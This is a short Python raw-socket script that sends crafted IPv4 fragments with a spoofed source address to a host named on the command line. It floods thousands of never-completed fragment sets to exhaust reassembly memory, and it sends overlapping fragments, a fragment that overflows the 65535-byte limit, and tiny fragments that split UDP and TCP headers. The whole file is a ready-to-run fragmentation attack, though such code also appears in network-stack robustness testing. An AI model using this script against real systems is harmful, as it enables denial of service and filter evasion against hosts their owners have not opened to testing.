# Fragments (RFC 791) to the address that is named: overlapping ones, first and last ones without a middle, and one beyond 65535 bytes.
import socket
import struct
import sys

to = sys.argv[1]
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def send(identity, offset, more, body, protocol=17):
    word = (0x2000 if more else 0) | offset // 8
    head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(body), identity, word, 64, protocol, 0, socket.inet_aton('192.0.2.1'), socket.inet_aton(to))
    raw.sendto(head + body, (to, 0))


udp = struct.pack('!HHHH', 9, 9, 3000, 0)
for identity in range(1, 2001):
    # Never whole: memory for them has an end.
    send(identity, 0, True, udp + b'a' * 992)
    send(identity, 2000, False, b'b' * 1000)
for identity in range(2001, 2101):
    send(identity, 0, True, udp + b'a' * 992)
    send(identity, 496, True, b'c' * 1000)
    send(identity, 1496, False, b'd' * 1000)
    # The end of it is not within any packet.
    send(identity + 1000, 65528, False, b'e' * 1000)
    # Eight bytes: half of a header of UDP and TCP each.
    send(identity + 2000, 0, True, udp)
    send(identity + 3000, 0, True, b'\0' * 8, 6)
